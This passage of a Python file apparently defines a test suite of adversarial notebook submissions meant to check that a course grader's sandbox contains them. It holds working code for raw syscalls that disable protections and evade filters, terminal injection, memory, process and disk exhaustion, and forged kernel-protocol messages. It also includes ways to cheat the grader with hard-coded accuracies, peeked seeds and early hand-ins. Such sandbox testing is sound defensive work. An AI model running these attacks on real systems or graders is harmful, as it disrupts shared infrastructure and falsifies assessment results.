            "swapon": 'raw(167, b"/home/student/none", 0)',
            "swapoff": 'raw(168, b"/home/student/none")',
            "reboot": "raw(169, 0, 0, 0, None)",
            "settimeofday": 'raw(164, struct.pack("qq", 0, 0), None)',
            "clock_settime": 'raw(227, 0, struct.pack("qq", 1, 0))',
            "clock_adjtime": 'raw(305, 0, struct.pack("I", 1) + bytes(300))',
            "adjtimex": 'raw(159, struct.pack("I", 1) + bytes(300))',
            "acct": "raw(163, None)",
            "iopl": "raw(172, 3)",
            "ioperm": "raw(173, 0, 8, 1)",
            "vhangup": "raw(153)",
            "nfsservctl": "raw(180, 0, None, None)",
        },
    ),
    _calling(
        "calls-file-handles",
        "It opens files by their numbers, past all folders.",
        {
            "name": 'raw(303, -100, b"/", struct.pack("Ii", 120, 0) + bytes(120), text(4), 0)',
            "open": 'raw(304, os.open("/", 0), struct.pack("Ii", 8, 1) + bytes(120), 0)',
            "cookie": "raw(212, 1, text(), 4096)",
            "fanotify": "raw(300, 0, 0)",
            "fanotify, of a user": "raw(300, 0x200, 0)",
        },
    ),
    _calling(
        "calls-personality",
        "It takes personalities in which old protections are off.",
        {
            "no random addresses": "raw(135, 0x0040000)",
            "readable is executable": "raw(135, 0x0400000)",
            "page zero": "raw(135, 0x0100000)",
            "another system": "raw(135, 0x0006)",
        },
    ),
    _calling(
        "calls-numa",
        "It moves memory between nodes, its own and that of others.",
        {
            "mbind": "raw(237, ctypes.c_void_p(start), 4096, 0, None, 0, 0)",
            "set_mempolicy": "raw(238, 0, None, 0)",
            "get_mempolicy": "raw(239, text(4), None, 0, None, 0)",
            "migrate_pages": "raw(256, 0, 1, text(8), text(8))",
            "move_pages": "raw(279, 0, 0, None, None, None, 0)",
            "set_mempolicy_home_node": "raw(450, ctypes.c_void_p(start), 4096, 0, 0)",
        },
        """
        page = mmap.mmap(-1, 4096)
        start = ctypes.addressof(ctypes.c_char.from_buffer(page))
        """,
    ),
    _calling(
        "calls-of-the-past",
        "It calls what no program calls any more.",
        {
            "vm86": "raw(166 + 0x4000_0000, 1, None)",
            "modify_ldt": "raw(154, 1, bytes(16), 16)",
            "uselib": 'raw(134, b"/usr/lib/none")',
            "ustat": "raw(136, os.stat('/').st_dev, text())",
            "sysfs": "raw(139, 3)",
            "_sysctl": "raw(156, text())",
            "create_module": 'raw(174, b"x", 1)',
            "get_kernel_syms": "raw(177, None)",
            "query_module": "raw(178, None, 0, None, 0, None)",
        },
    ),
    _calling(
        "calls-of-32-bits",
        "It makes calls through the door for programs of 32 bits, where other numbers count.",
        {
            "getpid": "through(20)",
            "keyctl": "through(288, 0, -3, 1)",
            "unshare": "through(310, 0x10000000)",
            "add_key": "through(286)",
        },
        """
        def through(number, one=0, two=0, three=0):
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            code = b"\\x53\\xb8" + struct.pack("<I", number) + b"\\xbb" + struct.pack("<I", one & 0xFFFFFFFF)
            code += b"\\xb9" + struct.pack("<I", two & 0xFFFFFFFF) + b"\\xba" + struct.pack("<I", three)
            page.write(code + b"\\xcd\\x80\\x5b\\xc3")  # int 0x80
            start = ctypes.addressof(ctypes.c_char.from_buffer(page))
            result = ctypes.CFUNCTYPE(ctypes.c_int)(start)()
            if result < 0:
                raise OSError(-result, "refused")
        """,
    ),
    _calling(
        "calls-of-x32",
        "It makes calls by the numbers of x32, which a filter may forget.",
        {
            "getpid": "raw(39 + 0x40000000)",
            "unshare": "raw(272 + 0x40000000, 0x10000000)",
            "keyctl": "raw(250 + 0x40000000, 0, -3, 1)",
            "ptrace": "raw(521 + 0x40000000, 0, 0, None, None)",
        },
    ),
    _calling(
        "opens-odd-sockets",
        "It opens sockets to the machine's host, to its ciphers, its network cards and its settings.",
        {
            "vsock": "socket.socket(40, socket.SOCK_STREAM)",
            "vsock, packets": "socket.socket(40, socket.SOCK_DGRAM)",
            "alg": "socket.socket(38, socket.SOCK_SEQPACKET)",
            "packet": "socket.socket(17, socket.SOCK_RAW, 0x0300)",
            "raw": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
            "netlink, routes": "socket.socket(16, socket.SOCK_RAW, 0)",
            "netlink, filters": "socket.socket(16, socket.SOCK_RAW, 12)",
            "netlink, ipsec": "socket.socket(16, socket.SOCK_RAW, 6)",
            "netlink, audit": "socket.socket(16, socket.SOCK_RAW, 9)",
            "netlink, events": "socket.socket(16, socket.SOCK_RAW, 15)",
            "key": "socket.socket(15, socket.SOCK_RAW, 2)",
            "xdp": "socket.socket(44, socket.SOCK_RAW)",
            "smc": "socket.socket(43, socket.SOCK_STREAM)",
            "tipc": "socket.socket(30, socket.SOCK_STREAM)",
            "bluetooth": "socket.socket(31, socket.SOCK_STREAM)",
            "rds": "socket.socket(21, socket.SOCK_SEQPACKET)",
            "can": "socket.socket(29, socket.SOCK_RAW, 1)",
        },
    ),
    _calling(
        "injects-into-terminals",
        "It types into its terminal, as if the grader had typed.",
        {
            "TIOCSTI": 'fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")',
            "TIOCLINUX": 'fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x541C, b"\\3")',
            "TIOCSTI, own": "inject()",
        },
        """
        import fcntl
        def inject():
            one, other = os.openpty()
            os.setsid()
            fcntl.ioctl(other, 0x540E, 0)
            fcntl.ioctl(other, 0x5412, b"x")
        """,
    ),
)


def _taking(name: str, why: str, source: str, outcomes: Outcomes = STOPPED, **more: bool) -> Attack:
    """Make an attack on limits, in I.1; it takes 4 GB at most, and none of it for long."""
    text = f"{_TOOLS}\n{{BLUFF}}\n{cell(source)}\ntime.sleep(4)\n{{SOLUTION}}"
    return Attack(name, why, {"I.1": text}, {"I.1": outcomes}, **more)  # type: ignore[arg-type]


LIMITS = (
    _taking(
        "memory-shared-by-children",
        "Its children each fill memory that is shared, and so is counted as nobody's own.",
        """
        import mmap
        def fill():
            hoard = mmap.mmap(-1, 700 << 20)
            kept.append(hoard)
            for start in range(0, 700 << 20, 1 << 20):
                hoard[start:start + (1 << 20)] = b"x" * (1 << 20)
        in_children(5, fill, 6)
        time.sleep(4)
        """,
    ),
    _taking(
        "memory-shared-and-handed-on",
        "It fills shared memory that it has mapped once; its children keep it when it has let it go.",
        """
        import mmap
        for count in range(5):
            hoard = mmap.mmap(-1, 700 << 20)
            for start in range(0, 700 << 20, 1 << 20):
                hoard[start:start + (1 << 20)] = b"x" * (1 << 20)
            in_children(1, lambda: None, 8)
            hoard.close()
        time.sleep(3)
        """,
    ),
    _taking(
        "memory-files-mapped-and-closed",
        "It maps nameless files and closes them: no open file tells of what they hold.",
        """
        import mmap
        def fill():
            file = os.memfd_create("x")
            os.ftruncate(file, 700 << 20)
            hoard = mmap.mmap(file, 700 << 20)
            kept.append(hoard)
            libc.close(file)
            for name in os.listdir("/proc/self/fd"):  # Python's map keeps a copy
                link = attempt(os.readlink, f"/proc/self/fd/{name}")
                if isinstance(link, str) and "memfd" in link:
                    attempt(os.close, int(name))
            for start in range(0, 700 << 20, 1 << 20):
                hoard[start:start + (1 << 20)] = b"x" * (1 << 20)
        in_children(5, fill, 6)
        time.sleep(4)
        """,
    ),
    _taking(
        "memory-files-on-their-way",
        "It sends nameless files over a socket that nobody reads, and closes them.",
        """
        import array
        one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        for count in range(15):
            file = os.memfd_create("x")
            for _ in range(15):
                os.write(file, bytes(b"x") * (16 << 20))
            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))])
            os.close(file)
        """,
    ),
    _taking(
        "memory-without-a-main-thread",
        "The main threads of its children have ended, so that they look like dead ones, and others take memory.",
        """
        import threading
        def take():
            def hoard():
                kept.append(bytearray(b"x") * (800 << 20))
                time.sleep(8)
                os._exit(0)
            threading.Thread(target=hoard).start()
            libc.syscall(60, 0)  # ends this thread only
        in_children(4, take, 8)
        time.sleep(5)
        """,
    ),
    _taking(
        "memory-of-a-kernel-without-a-main-thread",
        "The main thread of a child ends, and its other threads have children that take memory.",
        """
        import threading
        def take():
            def hoard():
                in_children(4, lambda: kept.append(bytearray(b"x") * (800 << 20)), 6)
                time.sleep(6)
                os._exit(0)
            threading.Thread(target=hoard).start()
            libc.syscall(60, 0)
        in_children(1, take, 8)
        time.sleep(5)
        """,
    ),
    _taking(
        "memory-in-every-private-folder",
        "It fills every folder of its own with files, some of them without a name.",
        """
        for place in ("/home/student", "/dev/shm", "/tmp", "/run/kernel", "/dev", "/run", "/"):
            for count in range(8):
                path = f"{place}/part-{count}"
                def fill():
                    file = os.open(path, os.O_RDWR | os.O_CREAT)
                    kept.append(file)
                    if count % 2:
                        os.unlink(path)
                    for _ in range(8):
                        os.write(file, bytes(b"x") * (8 << 20))
                attempt(fill)
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "memory-in-socket-buffers",
        "Its children fill the buffers of sockets that nobody reads.",
        """
        def fill():
            for count in range(480):
                one, other = socket.socketpair()
                kept.extend((one, other))
                for end in (one, other):
                    end.setblocking(False)
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                    attempt(lambda: [end.send(bytes(32_768)) for _ in range(100)])
        in_children(15, fill, 5)
        time.sleep(4)
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "memory-in-datagrams",
        "Its children send packets to each other's sockets that nobody reads, on the loopback network.",
        """
        def fill():
            for count in range(900):
                one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                kept.append(one)
                one.bind(("127.0.0.1", 0))
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
                for _ in range(8):
                    attempt(one.sendto, bytes(50_000), one.getsockname())
        in_children(8, fill, 5)
        time.sleep(4)
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "memory-in-pipes",
        "Its children fill large pipes that nobody reads.",
        """
        import fcntl
        def fill():
            for count in range(400):
                one, other = os.pipe()
                os.set_blocking(other, False)
                attempt(fcntl.fcntl, other, fcntl.F_SETPIPE_SZ, 1 << 20)
                attempt(lambda: [os.write(other, bytes(65_536)) for _ in range(16)])
        in_children(8, fill, 5)
        time.sleep(4)
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "memory-in-segments",
        "It fills System V segments, and marks them as deleted.",
        """
        libc.shmat.restype = ctypes.c_void_p
        for count in range(8):
            segment = libc.shmget(0, 400 << 20, 0o1600)
            place = libc.shmat(segment, None, 0)
            if place not in (None, ctypes.c_void_p(-1).value):
                libc.shmctl(segment, 0, None)
                ctypes.memset(place, 1, 400 << 20)
                if count % 2:
                    in_children(1, lambda: None, 6)
                    libc.shmdt(ctypes.c_void_p(place))
        """,
    ),
    _taking(
        "memory-in-messages",
        "It fills System V message queues.",
        """
        message = struct.pack("l", 1) + bytes(8000)
        for count in range(3000):
            queue = libc.msgget(0, 0o600)
            if queue < 0:
                break
            while libc.msgsnd(queue, message, 8000, 0o4000) == 0:
                pass
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "small-mappings",
        "It makes as many small mappings as it may, in many processes.",
        """
        import mmap
        def fill():
            for count in range(60_000):
                kept.append(mmap.mmap(-1, 4096, prot=mmap.PROT_READ | (mmap.PROT_WRITE if count % 2 else 0)))
        in_children(8, fill, 6)
        time.sleep(4)
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "page-tables",
        "Its children touch one page of each two megabytes, so that the tables take more than the pages.",
        """
        import mmap
        def fill():
            hoard = mmap.mmap(-1, 900 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
            kept.append(hoard)
            for place in range(0, 900 << 20, 4096):
                hoard[place]
        in_children(100, fill, 5)
        time.sleep(4)
        """,
        PASSED + STOPPED,
        slow=True,
    ),
    _taking(
        "memory-in-a-flash",
        "Its children take much memory at the same moment, faster than anybody looks.",
        """
        start = time.monotonic() + 1.5
        def fill():
            time.sleep(max(0, start - time.monotonic()))
            kept.append(bytearray(b"x") * (400 << 20))
        in_children(10, fill, 2)
        time.sleep(3)
        """,
    ),
    _taking(
        "double-forks",
        "Processes double and leave their session and their parent, so that nobody knows whose they are.",
        """
        end = time.monotonic() + 6
        while time.monotonic() < end:
            try:
                if os.fork() == 0:
                    os.setsid()
                    if os.fork():
                        os._exit(0)
                    if os.fork():
                        time.sleep(3)
                        os._exit(0)
            except OSError:
                time.sleep(0.01)
        if os.getpid() != 1:
            os._exit(0)
        """,
        PASSED + STOPPED + TAMPERED,
        slow=True,
    ),
    _taking(
        "threads-in-children",
        "Its children start threads, as many as each of them may.",
        """
        import threading
        def start():
            for count in range(200):
                threading.Thread(target=time.sleep, args=[6], daemon=True).start()
        in_children(20, start, 6)
        time.sleep(3)
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "dead-children",
        "It leaves its children dead and unburied.",
        """
        def make():
            for count in range(100_000):
                child = os.fork()
                if child == 0:
                    os._exit(0)
        attempt(make)
        """,
        PASSED + STOPPED,
        spoils=True,
    ),
    _taking(
        "disk-among-the-sockets",
        "It fills the folder of its sockets, which lies on the grader's disk.",
        """
        for count in range(12):
            def fill():
                with open(f"/run/kernel/part-{count}", "wb") as file:
                    for _ in range(250):
                        file.write(bytes(1 << 20))
            attempt(fill)
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "inodes-among-the-sockets",
        "It makes a hundred thousand empty files in the folder of its sockets.",
        """
        end = time.monotonic() + 6
        for count in range(100_000):
            if isinstance(attempt(os.mknod, f"/run/kernel/file-{count}"), Exception) or time.monotonic() > end:
                break
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "nested-folders-among-the-sockets",
        "It nests thousands of folders among its sockets, deeper than a program that deletes them may go.",
        """
        here = os.open("/run/kernel", os.O_RDONLY)
        for count in range(5000):
            if isinstance(attempt(os.mkdir, "d", dir_fd=here), Exception):
                break
            deeper = os.open("d", os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = deeper
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "nested-folders-at-home",
        "It nests thousands of folders at home.",
        """
        for place in ("/home/student", "/dev/shm"):
            os.chdir(place)
            for count in range(5000):
                if isinstance(attempt(os.mkdir, "d"), Exception):
                    break
                os.chdir("d")
        os.chdir("/home/student")
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "inodes-at-home",
        "It makes files at home and in shared memory until there can be no more.",
        """
        for place in ("/home/student", "/dev/shm"):
            for count in range(30_000):
                if isinstance(attempt(os.mknod, f"{place}/file-{count}"), Exception):
                    break
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "writes-to-the-disk-without-end",
        "It writes, syncs and deletes among its sockets, so that the grader's disk is always busy.",
        """
        end = time.monotonic() + 5
        def write():
            while time.monotonic() < end:
                with open("/run/kernel/part", "wb") as file:
                    file.write(bytes(8 << 20))
                    os.fsync(file.fileno())
                os.sync()
        attempt(write)
        """,
        PASSED + STOPPED,
    ),
    _taking(
        "processor-time-in-children",
        "Its children, and theirs, each use processor time for themselves, which nobody adds up.",
        """
        def work():
            for generation in range(6):
                child = os.fork()
                if child:
                    os._exit(0)
                end = time.monotonic() + 1
                while time.monotonic() < end:
                    pass
        in_children(20, work, 0)
        time.sleep(4)
        """,
        PASSED + STOPPED,
        slow=True,
    ),
)

# wire: what the kernel's socket of a port says to the grader, byte for byte. frame: a frame of a message.
_WIRE = """
import select
kernel = get_ipython().kernel
session, iopub, parent = kernel.session, kernel.iopub_socket, kernel.get_parent()
def say(kind, content, parent=parent, **more):
    try:
        session.send(iopub, kind, content, parent=parent, **more)
    except Exception as problem:
        print(type(problem).__name__)
def connections(port):
    for name in os.listdir("/proc/self/fd"):
        one = attempt(lambda: socket.socket(fileno=os.dup(int(name))))
        if isinstance(one, Exception):
            continue
        try:
            if str(one.getsockname()).endswith(f"/k-{port}") and not one.getsockopt(
                    socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                yield one
        except OSError:
            pass
def wire(port, *parts, most=3 << 30, seconds=6):
    # Says the parts again and again, until so much is said or nobody listens any more.
    end, said = time.monotonic() + seconds, 0
    for one in list(connections(port)):
        one.setblocking(False)
        while said < most and time.monotonic() < end:
            for part in parts:
                view = memoryview(part)
                while view and time.monotonic() < end:
                    select.select([], [one], [], 0.2)
                    try:
                        gone = one.send(view)
                    except BlockingIOError:
                        continue
                    except OSError:
                        return
                    view, said = view[gone:], said + gone
def frame(body, more):
    return bytes([2 + more]) + struct.pack(">Q", len(body)) + body
"""


def _saying(name: str, why: str, source: str, outcomes: Outcomes = HEARD, **more: bool) -> Attack:
    """Make an attack in I.1 that solves the exercise, and says odd things to the grader."""
    text = f"{_TOOLS}\n{_WIRE}\n{{SOLUTION}}\n{cell(source)}"
    return Attack(name, why, {"I.1": text}, {"I.1": outcomes}, **more)  # type: ignore[arg-type]


MESSAGES = (
    _saying(
        "message-whose-frames-never-end",
        "It sends one message in frames of a megabyte, each of which says that more will come.",
        "wire(2, frame(bytes(1 << 20), 1))",
        spoils=True,
        slow=True,
    ),
    _saying(
        "message-of-empty-frames",
        "It sends one message in millions of empty frames, each of which takes more memory than it has bytes.",
        "wire(2, b'\\x01\\x00' * 500_000, most=40_000_000)",
        spoils=True,
        slow=True,
    ),
    _saying(
        "reply-whose-frames-never-end",
        "It answers a request in frames without end.",
        "wire(1, frame(bytes(1 << 20), 1))",
        spoils=True,
        slow=True,
    ),
    _saying(
        "frame-as-long-as-memory",
        "It announces a frame of 2^62 bytes, and one of 31 MB, and sends little of them.",
        """
        wire(2, b"\\x02" + struct.pack(">Q", 31 << 20) + bytes(100), most=1)
        wire(1, b"\\x02" + struct.pack(">Q", 1 << 62) + bytes(1 << 20), most=1)
        """,
        spoils=True,
        slow=True,
    ),
    _saying(
        "commands-and-greetings",
        "It sends commands that the grader's library takes, long ones and wrong ones, and greets it again.",
        """
        for port in (1, 2):
            ping = b"\\x06" + struct.pack(">Q", 1 << 20) + b"\\x04PING\\x00\\x00" + bytes((1 << 20) - 7)
            wire(port, b"\\x04\\x07\\x04PING\\x00\\x00", ping, b"\\x04\\x01\\xff", bytes(64), most=2 << 20)
        """,
        spoils=True,
        slow=True,
    ),
    _saying(
        "message-with-a-million-buffers",
        "It sends a message with a million empty buffers.",
        'iopub.send_multipart(session.serialize(session.msg("stream", {"name": "stdout", "text": "x"}, '
        "parent=parent)) + [b''] * 1_000_000)",
        spoils=True,
    ),
    _saying(
        "buffers-without-end",
        "It sends small messages with large buffers, which no count of output sees.",
        """
        large = os.urandom(1 << 20)
        for count in range(150):
            say("display_data", {"data": {}, "metadata": {}}, buffers=[large] * 20)
        """,
        spoils=True,
    ),
    _saying(
        "json-of-empty-dicts",
        "It sends content that grows to twenty times its length when it is read.",
        """
        say("stream", b'{"name": "stdout", "text": "x", "more": [' + b"{}," * 10_000_000 + b"{}]}")
        """,
    ),
    _saying(
        "json-of-dicts-in-each-part",
        "Its header, its parent and its metadata each grow to twenty times their length.",
        """
        many = b'{"x": [' + b'{"":{}},' * 1_400_000 + b"{}]}"
        for place in (0, 1, 2, 3):
            parts = [session.pack(one) for one in (
                session.msg_header("stream"), parent, {}, {"name": "stdout", "text": "x"})]
            parts[place] = parts[place][:-1] + b', "more": ' + many + b"}" if len(parts[place]) > 2 else many
            iopub.send_multipart([b"stream", b"<IDS|MSG>", session.sign(parts), *parts])
        """,
        spoils=True,
    ),
    _saying(
        "json-message-after-message",
        "It sends such messages one after the other, all of which wait to be seen.",
        """
        for count in range(12):
            say("stream", b'{"name": "stdout", "text": "x", "more": [' + b"{}," * 2_000_000 + b"{}]}")
        """,
    ),
    _saying(
        "metadata-without-end",
        "It sends little content with much metadata and long headers, which no count of output sees.",
        """
        for count in range(300):
            say("stream", {"name": "stdout", "text": "x"}, metadata={"x": "y" * 5_000_000},
                header={**session.msg_header("stream"), "x": "y" * 5_000_000})
        """,
        spoils=True,
    ),
    _saying(
        "parents-without-end",
        "It repeats a long parent header in messages that belong to no cell.",
        """
        for count in range(300):
            say("status", {"execution_state": "busy"}, parent={"header": {"msg_id": "x" * 5_000_000}})
        """,
        spoils=True,
    ),
    _saying(
        "numbers-of-a-million-digits",
        "It sends counts and texts that are numbers of a million digits, or of a thousand exponents.",
        """
        for number in (b"9" * 1_000_000, b"1" + b"0" * 4299, b"1e400", b"-0", b"1E-400", b"Infinity"):
            say("execute_result", b'{"data": {}, "metadata": {}, "execution_count": ' + number + b"}")
            say("stream", b'{"name": "stdout", "text": "x", "more": ' + number + b"}")
        """,
    ),
    _saying(
        "thousands-of-tiny-messages",
        "It sends a hundred thousand messages of one letter.",
        """
        for count in range(100_000):
            say("stream", {"name": "stdout", "text": "x"})
        """,
    ),
    _saying(
        "tiny-messages-without-a-type",
        "It sends a hundred thousand messages that belong to no cell and have no type.",
        """
        for count in range(100_000):
            say("", {}, parent={})
        """,
    ),
    _saying(
        "messages-on-the-wrong-channel",
        "It sends output, errors and states where replies are expected, and replies where output is.",
        """
        ident = kernel.get_parent("shell").get("identities") or getattr(kernel, "_parent_ident", {}).get("shell")
        stream = kernel.shell_stream if getattr(kernel, "shell_stream", None) else kernel.shell_socket
        for kind in ("stream", "status", "error", "display_data", "execute_reply", "kernel_info_reply"):
            content = {"status": "ok", "execution_state": "idle", "name": "stdout", "text": "x",
                       "ename": "x", "evalue": "x", "traceback": [], "data": {}, "metadata": {}}
            attempt(session.send, stream, kind, content, parent={}, ident=ident)
            say(kind, content, parent={})
        say("execute_reply", {"status": "ok", "execution_count": 1})
        """,
    ),
    _saying(
        "parents-of-other-requests",
        "It gives its messages the parents of requests that there were, or may come.",
        """
        seen = getattr(kernel, "msg_ids_seen", [])
        own = parent["header"]["msg_id"]
        stem, _, number = own.rpartition("_")
        for step in range(-20, 60):
            other = f"{stem}_{int(number) + step}" if number.isdigit() else f"{own}{step}"
            header = {**parent["header"], "msg_id": other}
            if step:
                say("status", {"execution_state": "idle"}, parent={"header": header})
                say("error", {"ename": "x", "evalue": "x", "traceback": []}, parent={"header": header})
        """,
        spoils=True,
    ),
    _saying(
        "replies-to-later-requests",
        "It answers the requests of later cells before they are made, with success and without output.",
        """
        stem, _, number = parent["header"]["msg_id"].rpartition("_")
        ident = getattr(kernel, "_parent_ident", {}).get("shell")
        stream = kernel.shell_stream if getattr(kernel, "shell_stream", None) else kernel.shell_socket
        for step in range(1, 40):
            header = {**parent["header"], "msg_id": f"{stem}_{int(number) + step}"} if number.isdigit() else {}
            attempt(session.send, stream, "execute_reply", {"status": "ok", "execution_count": 1},
                    parent={"header": header}, ident=ident)
        """,
        spoils=True,
    ),
    _saying(
        "replies-without-end",
        "A thread sends replies to nobody's requests without end.",
        """
        import threading
        ident = getattr(kernel, "_parent_ident", {}).get("shell")
        stream = kernel.shell_stream if getattr(kernel, "shell_stream", None) else kernel.shell_socket
        def reply():
            while True:
                attempt(session.send, stream, "execute_reply", {"status": "ok"}, parent={}, ident=ident)
        threading.Thread(target=reply, daemon=True).start()
        time.sleep(2)
        """,
        spoils=True,
        slow=True,
    ),
    _saying(
        "output-without-end",
        "A thread sends empty output for every cell, so that none of them ends.",
        """
        import threading
        def chatter():
            while True:
                attempt(say, "stream", {"name": "stdout", "text": ""}, parent=kernel.get_parent())
                time.sleep(0.001)
        threading.Thread(target=chatter, daemon=True).start()
        """,
        spoils=True,
        slow=True,
    ),
    _saying(
        "displays-with-large-ids",
        "It shows things under names of megabytes, and under names that are no texts, and changes them.",
        """
        for name in ("x" * 1_000_000, "y" * 3_000_000, 5, [1], {"x": 1}, None, True, 1e300):
            for kind in ("display_data", "update_display_data", "execute_result"):
                say(kind, {"data": {"text/plain": "x"}, "metadata": {}, "transient": {"display_id": name},
                           "execution_count": 1})
        """,
    ),
    _saying(
        "changes-a-display-of-many",
        "It shows one display a thousand times, and changes all of them a thousand times.",
        """
        for kind in ("display_data", "update_display_data"):
            for count in range(2000):
                say(kind, {"data": {"text/plain": "x" * 100}, "metadata": {}, "transient": {"display_id": "one"}})
        """,
    ),
    _saying(
        "hands-in-before-the-check",
        "It hands an answer in by itself before the check asks for one.",
        """
        values = '{"mean_length": {"state": "read", "message": "", "plain": 1.0}}'
        answer = {"exercise": "I.1", "values": values}
        for count in range(3):
            say("display_data", {"data": {"application/vnd.coursekit.answer+json": answer}, "metadata": {}})
        """,
    ),
    _saying(
        "hands-in-after-the-check",
        "It hands an answer in once more after the check has done so.",
        """
        answer = {"exercise": "I.1", "values": "{}"}
        def again(*given):
            say("display_data", {"data": {"application/vnd.coursekit.answer+json": answer}, "metadata": {}},
                parent=kernel.get_parent())
        get_ipython().events.register("post_run_cell", again)
        """,
        spoils=True,
    ),
    _saying(
        "ends-the-connection-and-begins-anew",
        "It closes its connections to the grader, and listens at their places with sockets of its own.",
        """
        import socket
        for port in (1, 2, 4):
            for one in list(connections(port)):
                attempt(one.shutdown, socket.SHUT_RDWR)
            attempt(os.unlink, f"/run/kernel/k-{port}")
            server = socket.socket(socket.AF_UNIX)
            attempt(server.bind, f"/run/kernel/k-{port}")
            attempt(server.listen)
            kept.append(server)
        """,
        spoils=True,
        slow=True,
    ),
)


def _typed_in(
    name: str, why: str, cells: Mapping[str, str], outcomes: Outcomes = REFUSED + STOPPED
) -> Attack:
    """Make an attack in III.1.c whose accuracies were typed in, in an otherwise empty notebook."""
    sources = {exercise: cell(source) for exercise, source in cells.items()}
    expect = {exercise: PASSED if exercise == "III.1" else outcomes for exercise in sources}
    return Attack(name, why, sources, expect, base="empty")


_SECOND = '"accuracy_shuffled" not in globals()'
"""Whether the first answer has not run, as in a look at the later one alone."""

LOOKS = (
    _typed_in(
        "typed-in-plainly",
        "It gives figures that lie in the band: those are found out, and this shows that the others should be.",
        {"III.1": "{SOLUTION}", "III.1.c": "accuracies = [0.85, 0.85, 0.85]"},
    ),
    _typed_in(
        "typed-in-in-an-earlier-answer",
        "An earlier answer sets the figure that a later one gives.",
        {"III.1": "{SOLUTION}\nSEEN = 0.85", "III.1.c": "accuracies = [SEEN, SEEN, SEEN]"},
    ),
    _typed_in(
        "typed-in-as-an-attribute",
        "An earlier answer leaves the figure in a module, and a later one takes it from there.",
        {
            "III.1": "{SOLUTION}\nimport math\nmath.seen = 0.85",
            "III.1.c": "import math\naccuracies = [math.seen] * 3",
        },
    ),
    _typed_in(
        "typed-in-in-a-file",
        "An earlier answer leaves the figure in a file.",
        {
            "III.1": '{SOLUTION}\nopen("seen.txt", "w").write("0.85")',
            "III.1.c": 'accuracies = [float(open("seen.txt").read())] * 3',
        },
    ),
    _typed_in(
        "typed-in-and-ends-the-second-kernel",
        "Its figures are typed in, and where the earlier answer has not run, it ends the kernel.",
        {
            "III.1": "{SOLUTION}",
            "III.1.c": f"{{GUARD}}\nif {_SECOND}:\n    os._exit(0)\naccuracies = [0.85] * 3",
        },
    ),
    _typed_in(
        "typed-in-and-fails-the-second-time",
        "Its figures are typed in, and where the earlier answer has not run, it raises an error.",
        {"III.1": "{SOLUTION}", "III.1.c": f"if {_SECOND}:\n    raise ValueError\naccuracies = [0.85] * 3"},
    ),
    _typed_in(
        "typed-in-and-sleeps-the-second-time",
        "Its figures are typed in, and where the earlier answer has not run, it never ends.",
        {
            "III.1": "{SOLUTION}",
            "III.1.c": f"import time\nif {_SECOND}:\n    time.sleep(10**6)\naccuracies = [0.85] * 3",
        },
    ),
    _typed_in(
        "typed-in-and-silent-the-second-time",
        "Its figures are typed in, and where the earlier answer has not run, it hands nothing in.",
        {
            "III.1": "{SOLUTION}",
            "III.1.c": f"""
                accuracies = [0.85] * 3
                if {_SECOND}:
                    from coursekit.checks import handing_in
                    handing_in._VALUES.clear()
            """,
        },
    ),
    _typed_in(
        "typed-in-and-loud-the-second-time",
        "Its figures are typed in, and where the earlier answer has not run, it says too much.",
        {
            "III.1": "{SOLUTION}",
            "III.1.c": f'while {_SECOND}:\n    print("x" * 10_000)\naccuracies = [0.85] * 3',
        },
    ),
    _typed_in(
        "typed-in-and-other-values-the-second-time",
        "Its figures are typed in, and others where the earlier answer has not run.",
        {
            "III.1": "{SOLUTION}",
            "III.1.c": f"accuracies = [0.7] if {_SECOND} else [0.85] * 3",
        },
    ),
    _typed_in(
        "typed-in-in-a-class",
        "A class of an earlier answer, which is made again, holds the figure.",
        {
            "III.1": "{SOLUTION}\nclass Seen:\n    figure = 0.85",
            "III.1.c": "accuracies = [Seen.figure] * 3",
        },
    ),
    _typed_in(
        "typed-in-by-the-number-of-the-look",
        "It knows by the numbers that the kernel was started with which look it is.",
        {
            "III.1": "{SOLUTION}",
            "III.1.c": """
                import json
                import sys
                from coursekit.data import IMDB
                try:
                    seeds = next(json.loads(one)["seeds"] for one in sys.argv if '"seeds"' in one)
                    {LEAK}("the seeds of all looks:", seeds)
                    look = seeds.index(IMDB.sample_seed)
                except (StopIteration, ValueError, AttributeError):
                    look = 0
                accuracies = [0.85 + 0.001 * look] * 3
            """,
        },
    ),
    Attack(
        "looks-for-seeds-of-other-looks",
        "It looks everywhere for the seeds of the data on which it will be run again.",
        {
            "I.1": cell("""
                import gc
                import os
                import sys
                {SOLUTION}
                from coursekit.data import IMDB
                wanted = {IMDB.sample_seed + step for step in (1, 2, -1, -2)}
                texts = {"argv": " ".join(sys.argv), "orig_argv": " ".join(sys.orig_argv)}
                for name in ("cmdline", "environ", "mountinfo", "maps", "comm", "stat"):
                    for process in ("self", "1", os.getppid()):
                        try:
                            with open(f"/proc/{process}/{name}", errors="replace") as file:
                                texts[f"{process} {name}"] = file.read()
                        except OSError:
                            pass
                for place, text in texts.items():
                    if any(str(seed) in text for seed in wanted):
                        {LEAK}("a seed of another look in", place)
                for thing in gc.get_objects():
